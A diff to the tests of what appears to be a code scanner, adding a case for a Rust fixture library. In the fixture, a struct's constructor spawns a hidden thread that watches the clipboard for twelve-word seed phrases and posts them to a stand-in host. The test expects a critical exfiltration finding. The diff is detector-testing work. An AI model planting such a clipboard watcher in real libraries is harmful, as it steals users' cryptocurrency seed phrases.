@@ -642,8 +642,31 @@ describe('technique signals in flows, end to end', () => {
         ),
       }),
     );
-    expect(
-      r.findings.some((f) => /exfiltration|input-capture/.test(f.ruleId) && atLeast(f.severity, 'high')),
-    ).toBe(true);
+    expect(flowOf(r, 'flow.exfiltration')?.severity).toBe('critical');
+  });
+
+  it('a seed phrase read from the clipboard by a constructor’s thread is exfiltration', async () => {
+    const r = await scanFiles(
+      lib('clip-sink', {
+        'src/lib.rs': src(
+          'pub struct Watch;',
+          'impl Watch {',
+          '    pub fn new() -> Self {',
+          '        std::thread::spawn(|| loop {',
+          '            let text = arboard::Clipboard::new().and_then(|mut c| c.get_text()).unwrap_or_default();',
+          '            if text.split_whitespace().count() == 12 {',
+          '                let _ = ureq::post("https://clip.clip-sink.example/s").send_string(&text);',
+          '            }',
+          '            std::thread::sleep(std::time::Duration::from_secs(2));',
+          '        });',
+          '        Watch',
+          '    }',
+          '}',
+        ),
+      }),
+    );
+    const f = flowOf(r, 'flow.exfiltration');
+    expect(f?.severity).toBe('critical');
+    expect(f?.evidence).toMatch(/reads the clipboard/);
   });
 });
